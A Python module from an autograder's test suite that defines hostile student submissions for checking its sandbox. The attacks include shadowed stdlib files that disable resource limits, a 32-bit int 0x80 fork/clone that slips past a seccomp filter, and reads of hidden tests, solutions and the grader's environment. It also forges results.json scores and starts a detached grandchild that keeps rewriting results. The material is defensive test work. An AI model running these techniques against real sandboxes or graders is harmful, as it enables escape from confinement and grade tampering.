"""Hostile submissions against the sandbox itself: its start-up, its seccomp filter, its uid.

The attacks of issue 18's audit, items 1, 2 and 5, as catalogue entries reusing
:class:`~autograder.examples.hostile.Hostile` and :func:`~autograder.examples.hostile.materialise`
(the reference package plus a snippet), with files added at the submission's root:

- ``shadow_stdlib``: a wrong softmax, and files named like the modules the worker and its
  start-up use (``contextlib.py`` turning ``resource.setrlimit`` and ``prctl`` into
  no-ops, ``json.py``, ``resource.py``, ``ctypes.py``, ``site.py``, ``sitecustomize.py``,
  ``usercustomize.py``, a ``numpy/`` package, a ``.pth`` file...). Each announces itself if
  it is ever imported; the package then measures, from inside, the memory limit, a fork
  and a 5 GiB allocation.
- ``fork_int80``: 32-bit ``int 0x80`` fork and clone from a few bytes of mmap'd code via
  ctypes (x86_64): the way around a filter that checks syscall numbers but not the ABI.
- ``read_grader_files``: reads the hidden checks, the reference, the source notebooks,
  the grader's environment (``/proc/<parent>/environ``) and the results folder, and tries
  to write a results.json there, and leaves a file in /tmp for the next student with the
  same uid; for the separate-user level, where these files exist but must be unreadable.
- ``detached_child``: double fork and ``setsid``; the grandchild sleeps, then rewrites the
  results. Run with the fork filter off (tests/test_hostile_sandbox.py) to show that the
  separate-user level kills it anyway before any result is written.

``{repo}``, ``{results}`` and ``{pids}`` are replaced by :func:`materialise_startup`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

from autograder.examples.hostile import _WRONG_SOFTMAX, Hostile, materialise
from autograder.paths import ROOT

# Every shadow announces itself; the ones on the worker's path to its limits also try to
# switch the limits off, as the audit's contextlib.py did.
_ANNOUNCE = 'print("hostile: SHADOW {name} IMPORTED", flush=True)\n'
_DISARM = """
import resource as _resource
_resource.setrlimit = lambda *a, **k: None
try:
    import ctypes as _ctypes
    _ctypes.CDLL(None).prctl = lambda *a, **k: 0
except Exception:
    pass
"""
SHADOWED = (
    "contextlib",
    "json",
    "resource",
    "ctypes",
    "struct",
    "platform",
    "errno",
    "types",
    "socket",
    "traceback",
    "linecache",
    "importlib",
    "builtins",
    "site",
    "sitecustomize",
    "usercustomize",
    "protocol",
    "worker",
)


def _shadow_files() -> dict[str, str]:
    files = {f"{name}.py": _ANNOUNCE.format(name=name) + _DISARM for name in SHADOWED}
    files["numpy/__init__.py"] = _ANNOUNCE.format(name="numpy") + _DISARM
    files["evil.pth"] = "import sys; print('hostile: SHADOW pth IMPORTED')\n"
    return files


# Measured from inside, after the package is imported: what the shadows would have freed.
_MEASURE = """
import os as _os
import resource as _resource
_soft, _hard = _resource.getrlimit(_resource.RLIMIT_AS)
print("hostile: address-space limit", _soft, _hard)
try:
    _pid = _os.fork()
    if _pid == 0:
        _os._exit(0)
    _os.waitpid(_pid, 0)
    print("hostile: FORKED")
except OSError as _error:
    print("hostile: fork refused:", type(_error).__name__)
import mmap as _mmap
try:  # address space only, never touched: harmless even where no limit holds
    _mmap.mmap(-1, 5 * 1024**3).close()
    print("hostile: ALLOCATED 5 GiB")
except OSError:
    print("hostile: 5 GiB allocation refused")
"""

# mov eax, 2; int 0x80; ret                      -> 32-bit fork
_FORK32 = "b'\\xb8\\x02\\x00\\x00\\x00\\xcd\\x80\\xc3'"
# push rbx; mov eax, 120; mov ebx, 17 (SIGCHLD); xor ecx, edx, esi, edi; int 0x80; pop rbx; ret
_CLONE32 = (
    "b'\\x53\\xb8\\x78\\x00\\x00\\x00\\xbb\\x11\\x00\\x00\\x00\\x31\\xc9\\x31\\xd2"
    "\\x31\\xf6\\x31\\xff\\xcd\\x80\\x5b\\xc3'"
)
INT80 = f"""
import ctypes as _ctypes
import mmap as _mmap
import os as _os

def _int80(code):
    page = _mmap.mmap(-1, 4096, prot=_mmap.PROT_READ | _mmap.PROT_WRITE | _mmap.PROT_EXEC)
    page.write(code)
    address = _ctypes.addressof(_ctypes.c_char.from_buffer(page))
    return _ctypes.CFUNCTYPE(_ctypes.c_int)(address)()

_children = 0
for _code in [{_FORK32}] * 8 + [{_CLONE32}] * 8:
    _pid = _int80(_code)
    if _pid == 0:
        _os._exit(0)  # a child: gone at once
    if _pid > 0:
        _children += 1
        _os.waitpid(_pid, 0)
print("hostile: int 0x80 children made:", _children)
"""

READ_FILES = """
import os as _os
for _path in ("{repo}/autograder/hidden/test_hidden_02_softmax_loss.py",
              "{repo}/autograder/grade.py",
              "{repo}/solutions/numpynet/functional.py",
              "{repo}/solutions/lessons/02_softmax_cross_entropy.ipynb",
              "{results}/results.json",
              "/proc/%d/environ" % _os.getppid()):
    try:
        with open(_path, "rb") as _handle:
            print("hostile: READ", _path, len(_handle.read()), "bytes")
    except OSError as _error:
        print("hostile: cannot read", _path, type(_error).__name__)
try:
    with open("{results}/results.json", "w") as _handle:
        _handle.write('{{"score": 205}}')
    print("hostile: WROTE results")
except OSError as _error:
    print("hostile: cannot write results", type(_error).__name__)
_left = "/tmp/npn-left-by-uid-%d" % _os.getuid()  # for the next student with this uid
with open(_left, "w") as _handle:
    _handle.write("left behind")
print("hostile: left", _left)
"""

DETACHED = """
import os as _os
import time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        with open("{pids}/%d" % _os.getpid(), "w"):
            pass
        for _ in range(100):  # 10 s: long after grading has finished
            _time.sleep(0.1)
            try:
                with open("{results}/results.json", "w") as _handle:
                    _handle.write('{{"score": 205}}')
            except OSError:
                pass
        _os._exit(0)
    _os._exit(0)
_time.sleep(0.5)  # the grandchild has written its pid
print("hostile: detached child started")
"""


@dataclass(frozen=True)
class StartupHostile:
    """A hostile package plus files at the submission's root."""

    hostile: Hostile
    files: dict[str, str] = field(default_factory=dict)

    @property
    def name(self) -> str:
        """The entry's name (its folder)."""
        return self.hostile.name


STARTUP: tuple[StartupHostile, ...] = (
    StartupHostile(
        Hostile(
            "shadow_stdlib",
            "wrong softmax; contextlib.py, resource.py, numpy/, site.py, a .pth... at the "
            "submission's root switch the limits off if imported; measures them from inside",
            "__init__.py",
            "\nimport numpy as np\n" + _WRONG_SOFTMAX + _MEASURE,
            lost={"ex2_1": "failed"},
            output="hostile: 5 GiB allocation refused",
            needs_seccomp=True,
        ),
        _shadow_files(),
    ),
    StartupHostile(
        Hostile(
            "fork_int80",
            "32-bit int 0x80 fork and clone, 8 each, from mmap'd code via ctypes (x86_64)",
            "__init__.py",
            INT80,
            output="hostile: int 0x80 children made: 0",
            needs_seccomp=True,
        ),
    ),
    StartupHostile(
        Hostile(
            "read_grader_files",
            "reads the hidden checks, the grader, the reference, the source notebooks, the "
            "grader's environment and results, and writes a results.json",
            "__init__.py",
            READ_FILES,
            output="hostile: cannot read",
        ),
    ),
    StartupHostile(
        Hostile(
            "detached_child",
            "a setsid grandchild (double fork) that rewrites results.json for 10 s",
            "__init__.py",
            DETACHED,
            output="hostile: detached child started",
        ),
    ),
)

BY_NAME = {entry.name: entry for entry in STARTUP}


def materialise_startup(
    entry: StartupHostile,
    out_dir: str | Path,
    repo: Path = ROOT,
    results: str | Path = "/nonexistent",
    pids: str | Path = "/nonexistent",
) -> Path:
    """Write ``<out_dir>/<name>/`` (the package and the root files); returns the folder."""
    submission = materialise(entry.hostile, out_dir, repo=repo)
    package = submission / "numpynet" / entry.hostile.module
    text = package.read_text(encoding="utf-8")
    text = text.replace("{results}", str(results)).replace("{pids}", str(pids))
    package.write_text(text, encoding="utf-8")
    for name, content in entry.files.items():
        target = submission / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(content, encoding="utf-8")
    return submission
